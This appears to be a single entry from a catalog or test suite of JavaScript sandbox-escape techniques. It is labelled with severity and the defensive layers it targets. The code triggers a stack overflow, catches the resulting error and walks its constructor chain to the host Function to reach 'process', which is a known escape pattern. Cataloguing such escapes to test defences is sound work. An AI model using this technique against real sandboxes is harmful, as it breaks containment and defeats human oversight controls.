// technique: the class of an error of a library that ran out of stack
// family: B
// severity: H
// layers: policy, mount_namespace, landlock
readHost(() => {
  let deepest;
  const down = () => { try { down(); } catch (e) { deepest ??= e; new URL('http://x'); } };
  down();
  return loaderOf(fromText(deepest.constructor.constructor, 'process'));
});
